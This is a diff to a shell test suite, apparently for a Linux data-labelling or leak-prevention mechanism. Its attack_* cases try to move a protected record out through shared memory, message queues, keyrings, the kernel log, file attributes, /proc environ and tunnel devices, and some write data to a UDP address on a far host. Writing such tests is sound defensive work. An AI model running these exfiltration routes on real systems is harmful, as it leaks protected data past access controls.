@@ -172,7 +172,7 @@ attack_shell() {
 	text=$("$CAT" "$R") && echo "$text" >"/dev/udp/10.9.0.2/$FAR_PORT"
 }
 
-evade terminal egress "$PIPES" 'a terminal' all='missed: what passes a terminal is not labelled yet'
+evade terminal egress "$PIPES" 'a terminal'
 attack_terminal() { hop pty,name "$FAR_UDP" && soon test -s name && tell "file,$(<name)"; }
 
 evade many-hops egress "$RELAYS" 'a pipe, gzip, a UNIX socket, a helper, a proxy on loopback'
@@ -188,7 +188,6 @@ attack_many-hops() {
 
 # --- memory ---
 
-UNSHARED='missed: memory that was shared before its writer read the record is not labelled yet'
 DECIDED='operations=read reason=not_granted'
 
 evade vm egress "$MEMORY" 'of a child by CLONE_VM'
@@ -197,10 +196,10 @@ attack_vm() { slipped vm; }
 evade written egress "$MEMORY" 'written into the helper by process_vm_writev' who=root
 attack_written() { slipped written; }
 
-evade anonymous egress "$MEMORY" 'mapped before the fork' all="$UNSHARED"
+evade anonymous egress "$MEMORY" 'mapped before the fork'
 attack_anonymous() { slipped anonymous; }
 
-evade memfd egress "$MEMORY" 'a memfd, mapped before the child reads' all="$UNSHARED"
+evade memfd egress "$MEMORY" 'a memfd, mapped before the child reads'
 attack_memfd() { slipped memfd; }
 
 evade posix-shm egress "$MEMORY" 'of POSIX' entry="$DECIDED"
@@ -208,6 +207,33 @@ attack_posix-shm() { tell "posix-shm,/$I" && "$CARRY" pass "posix-shm,/$I" "$FAR
 
 evade sysv-shm egress "$MEMORY" 'of System V' entry="$DECIDED"
 attack_sysv-shm() { by_number shm; }
+
+# relay_memory FROM TO [WORD…]: who waits for it has mapped it before.
+relay_memory() {
+	hop "$1" "$FAR_UDP" && soon test -e ready && tell "${@:2}"
+}
+
+evade posix-shm-early egress "$MEMORY" 'of POSIX, mapped by both before the record is read'
+attack_posix-shm-early() { relay_memory "posix-shm,/$I" "posix-shm,/$I" first && rm -f "/dev/shm/$I"; }
+
+evade sysv-shm-early egress "$MEMORY" 'of System V, mapped by who waits for it'
+attack_sysv-shm-early() {
+	local number
+	number=$(a_port)
+	relay_memory "shm,$number" "shm,$number" first
+}
+
+evade seen-early egress "$MEMORY" 'of POSIX, which the other has mapped to be read only'
+attack_seen-early() { relay_memory "seen,/$I" "posix-shm,/$I" first && rm -f "/dev/shm/$I"; }
+
+evade seen-write egress "$MEMORY" 'the same, written by write(2)'
+attack_seen-write() { relay_memory "seen,/$I" "file,/dev/shm/$I" && rm -f "/dev/shm/$I"; }
+
+evade map-early egress "$MEMORY" 'a file that both map before the record is read'
+attack_map-early() { relay_memory map,file map,file first; }
+
+evade memory-opened egress "$MEMORY" 'of a child, whose /proc/PID/mem was opened before' who=root
+attack_memory-opened() { slipped opened; }
 
 # A place of kind $1 that is known by a number.
 by_number() {
@@ -221,18 +247,16 @@ attack_mapped-file() { tell map,file && "$CARRY" pass map,file "$FAR_UDP"; }
 
 # --- queues ---
 
-UNQUEUED='missed: what lies in queues and keys is not labelled yet'
-
-evade posix-queue egress "$QUEUES" 'a queue of POSIX' all="$UNQUEUED"
+evade posix-queue egress "$QUEUES" 'a queue of POSIX'
 attack_posix-queue() { tell "mq,/$I" && "$CARRY" pass "mq,/$I" "$FAR_UDP"; }
 
-evade sysv-queue egress "$QUEUES" 'a queue of System V' all="$UNQUEUED"
+evade sysv-queue egress "$QUEUES" 'a queue of System V'
 attack_sysv-queue() { by_number msg; }
 
-evade key egress "$QUEUES" 'a key of the user'"'"'s keyring' all="$UNQUEUED"
+evade key egress "$QUEUES" 'a key of the user'"'"'s keyring'
 attack_key() { tell "key,$I" && "$CARRY" pass "key,$I" "$FAR_UDP"; }
 
-evade kernel-log egress "$QUEUES" 'the kernel'"'"'s log' who=root all="$UNQUEUED"
+evade kernel-log egress "$QUEUES" 'the kernel'"'"'s log' who=root entry='operations=write reason=not_agreed'
 attack_kernel-log() { "$CAT" "$R" >/dev/kmsg && dmesg | grep -F "$MARK" | "$CARRY" pass - "$FAR_UDP"; }
 
 # --- files ---
@@ -252,7 +276,7 @@ attack_copied-linked() { "$CAT" "$R" >note && mv note other && ln other third &&
 evade named egress "$FILES" 'the name of a file' all='missed: names, sizes and times are not labelled'
 attack_named() { mkdir names && "$CAT" "$R" | (cd names && read -r name && : >"$name") && find names | "$CARRY" pass - "$FAR_UDP"; }
 
-evade noted egress "$FILES" 'an extended attribute' all='missed: attributes of files are not labelled'
+evade noted egress "$FILES" 'an extended attribute' entry="$DECIDED hook=inode_getxattr"
 attack_noted() { : >note && tell xattr,note && "$CARRY" pass xattr,note "$FAR_UDP"; }
 
 # --- programs ---
@@ -267,8 +291,7 @@ named_process() {
 	soon grep -qx sleep "/proc/$HELD_PID/comm"
 }
 
-evade proc-environ egress "$ARGUMENTS" 'a variable of the reader, in /proc' who=root \
-	all='missed: the variables of a process are not labelled for who reads them in /proc'
+evade proc-environ egress "$ARGUMENTS" 'a variable of the reader, in /proc' who=root
 attack_proc-environ() {
 	named_process && "$CARRY" pass "file,/proc/$HELD_PID/environ" "$FAR_UDP"
 	end_reader
@@ -313,7 +336,7 @@ attack_vsock() {
 }
 
 evade tun egress "$DEVICES" 'a packet that a tunnel device seems to have received' who=root needs=needs_tun \
-	all='missed: what is written to a tunnel device is not decided'
+	entry='operations=write reason=not_agreed'
 needs_tun() {
 	modprobe -q tun 2>/dev/null
 	[[ -e /dev/net/tun ]] || { mkdir -p /dev/net && mknod /dev/net/tun c 10 200; } 2>/dev/null
